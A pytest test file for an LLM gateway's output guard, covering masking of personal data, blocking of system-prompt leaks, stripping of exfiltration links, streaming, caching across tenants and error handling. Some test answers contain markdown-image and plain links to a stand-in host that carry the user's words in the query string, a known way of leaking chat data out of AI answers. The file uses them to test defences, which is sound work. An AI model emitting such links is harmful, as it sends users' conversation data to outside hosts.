"""Answers, guarded on their way through a real gateway."""

from __future__ import annotations

import json

import pytest

from support.guarded import chat, guarded, steps
from support.guarded_answers import SYSTEM, chat_body, chat_event, chat_stream, said_in
from support.scripted_worker import scripted_worker

ASKED = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "hello there"}]


def saying(text):
    """A worker that says it, in one piece or in events of five characters."""

    async def behave(exchange):
        if not exchange.json().get("stream"):
            await exchange.reply(200, chat_body(text))
            return
        await exchange.begin_stream()
        for event in chat_stream([text[at : at + 5] for at in range(0, len(text), 5)]):
            await exchange.chunk(event)
        await exchange.end_stream()

    return behave


async def streamed(gateway, body):
    """What a client of a stream reads, and its response's headers."""
    async with gateway.client.post(gateway.url + "/v1/chat/completions", json=body) as response:
        return said_in([await response.read()]), response.headers


@pytest.mark.parametrize(
    ("section", "text", "expected", "finish"),
    [
        ({"pii": {"action": "mask"}}, "Ask a@b.org now. Bye", "Ask ***** now. Bye", "stop"),
        ({"pii": {"action": "block"}}, "Ask a@b.org now. Bye", "Ask ", "content_filter"),
        ({"system_prompt": {"action": "block"}}, f"Sure: {SYSTEM}", "Sure: ", "content_filter"),
        (
            {"exfiltration": {"action": "strip"}},
            "Done. ![](https://a.example/?d=hello+there+now) Bye",
            "Done. ![](#link-removed) Bye",
            "stop",
        ),
    ],
)
async def test_whole_answers_and_streams_are_guarded_alike(monkeypatch, section, text, expected, finish):
    async with (
        scripted_worker(saying(text)) as worker,
        guarded(monkeypatch, worker.url, guard={"answers": section}) as gateway,
    ):
        status, body, headers = await gateway.chat(messages=ASKED)
        choice = body["choices"][0]
        assert (status, choice["message"]["content"], choice["finish_reason"]) == (200, expected, finish)
        rule, part = next(iter(section.items()))
        assert headers["x-radixway-guard"] == f"{part['action']} answers.{rule}"
        (said, ended), _ = await streamed(gateway, {"model": "m", "messages": ASKED, "stream": True})
        assert (said["content"], ended) == (expected, finish)
        (step,) = [step for step in (await steps(gateway, headers)).items() if step[0] == "guard_answer"]
        assert (step[1]["rule"], step[1]["action"]) == (f"answers.{rule}", part["action"])
        metrics = gateway.gateway.metrics.render_text().decode()
        assert (
            f'radixway_guard_answers_total{{action="{part["action"]}",rule="answers.{rule}"}} 2.0' in metrics
        )


async def test_an_answer_with_personal_data_is_not_kept_for_others(monkeypatch):
    text = "Ask a@b.org now. Bye"
    async with (
        scripted_worker(saying(text)) as worker,
        guarded(
            monkeypatch,
            worker.url,
            guard={"answers": {"pii": {"action": "mask"}}},
            semantic_cache={"enabled": True},
        ) as gateway,
    ):
        for stream in (False, True):
            for _ in range(2):
                body = chat("what is the address of the office?") | {"stream": stream, "temperature": 0}
                async with gateway.client.post(gateway.url + "/v1/chat/completions", json=body) as response:
                    assert "x-vsr-cache-hit" not in response.headers
                    await response.read()
                await gateway.gateway.cache.middleware.wait_for_writes()
        assert len(worker.requests) == 4


async def test_a_kept_answer_is_read_again_for_whoever_is_given_it(monkeypatch):
    async with (
        scripted_worker(saying("See https://a.example/?d=where+is+the+office now.")) as worker,
        guarded(
            monkeypatch,
            worker.url,
            guard={
                "answers": {"exfiltration": {"action": "strip"}},
                "policies": {"open": {"answers": {"exfiltration": {"action": "off"}}}},
            },
            semantic_cache={"enabled": True},
            tenants={
                name: {"keys": [{"key": f"key-of-{name}-0123456789"}], "cache_namespace": "both"} | more
                for name, more in {"free": {"guard": "open"}, "strict": {}}.items()
            },
        ) as gateway,
    ):
        said = []
        for tenant in ("free", "strict"):
            headers = {"authorization": f"Bearer key-of-{tenant}-0123456789"}
            body = chat("where is the office?") | {"temperature": 0}
            status, answer, got = await gateway.post("/v1/chat/completions", body, headers=headers)
            assert status == 200, answer
            await gateway.gateway.cache.middleware.wait_for_writes()
            said.append((answer["choices"][0]["message"]["content"], got.get("x-vsr-cache-hit")))
        assert said == [
            ("See https://a.example/?d=where+is+the+office now.", None),
            ("See #link-removed now.", "true"),
        ]


async def test_a_worker_that_pauses_does_not_keep_a_half_sentence_from_the_client(monkeypatch):
    import asyncio

    seen = asyncio.Event()

    async def behave(exchange):
        await exchange.begin_stream()
        await exchange.chunk(chat_event(content="this has no end yet but "))
        await seen.wait()
        await exchange.chunk(chat_event(content="now it has. ", finish="stop"))
        await exchange.end_stream()

    section = {"answers": {"pii": {"action": "mask"}, "hold_back": {"milliseconds": 10}}}
    async with scripted_worker(behave) as worker, guarded(monkeypatch, worker.url, guard=section) as gateway:
        body = chat("hello", stream=True)
        async with gateway.client.post(gateway.url + "/v1/chat/completions", json=body) as response:
            first = await response.content.readany()
            seen.set()
            rest = await response.read()
        assert said_in([first])[0]["content"] == "this has no end yet but "
        assert said_in([first, rest])[0]["content"] == "this has no end yet but now it has. "


async def test_a_client_that_leaves_a_guarded_stream_frees_its_worker(monkeypatch):
    async def behave(exchange):
        await exchange.begin_stream()
        await exchange.chunk(chat_event(content="One sentence. And half of"))
        await exchange.until_peer_leaves()

    section = {"answers": {"pii": {"action": "block"}}}
    async with scripted_worker(behave) as worker, guarded(monkeypatch, worker.url, guard=section) as gateway:
        worker.hung_up.clear()
        async with gateway.client.post(
            gateway.url + "/v1/chat/completions", json=chat("hello", stream=True)
        ) as response:
            await response.content.readany()
            response.close()
        await worker.hung_up.wait()


async def test_a_finder_that_fails_lets_the_answer_pass_or_ends_it(monkeypatch):
    for on_error, expected in (("allow", ("Hi. a@b.org", "stop")), ("block", ("", "content_filter"))):
        section = {"answers": {"pii": {"action": "mask"}, "on_error": on_error}}
        async with (
            scripted_worker(saying("Hi. a@b.org")) as worker,
            guarded(monkeypatch, worker.url, guard=section) as gateway,
        ):
            gateway.finder.broken = True
            _, body, headers = await gateway.chat()
            choice = body["choices"][0]
            assert (choice["message"]["content"], choice["finish_reason"]) == expected
            assert (await steps(gateway, headers))["guard_answer"]["outcome"] == on_error
            _, health = await gateway.get("/health")
            assert "a@b.org" not in json.dumps(health)
            failing = {"state": "failing", "errors": {"answers.pii": "GuardUnavailableError"}}
            assert health["guard"]["answers"] == failing
            gateway.finder.broken = False
            await gateway.chat()
            assert (await gateway.get("/health"))[1]["guard"]["answers"] == {"state": "ok", "errors": {}}


async def test_what_was_redacted_is_restored_in_the_answer_and_the_model_never_sees_it(monkeypatch):
    section = {"pii": {"action": "redact"}, "answers": {"pii": {"action": "block"}}}
    for stream in (False, True):
        async with (
            scripted_worker(saying("I wrote to [Email Address 1], as you said.")) as worker,
            guarded(monkeypatch, worker.url, guard=section) as gateway,
        ):
            body = chat("write to anna@example.org", stream=stream)
            (said, finish), _ = (
                await streamed(gateway, body) if stream else (await whole(gateway, body), None)
            )
            assert said["content"] == "I wrote to anna@example.org, as you said."
            assert finish == "stop"
            assert b"anna@" not in worker.requests[0].body
            assert b"[EMAIL_ADDRESS_1]" in worker.requests[0].body


async def whole(gateway, body):
    """The message, and why it ended."""
    _, answer, _ = await gateway.post("/v1/chat/completions", body)
    return answer["choices"][0]["message"], answer["choices"][0]["finish_reason"]
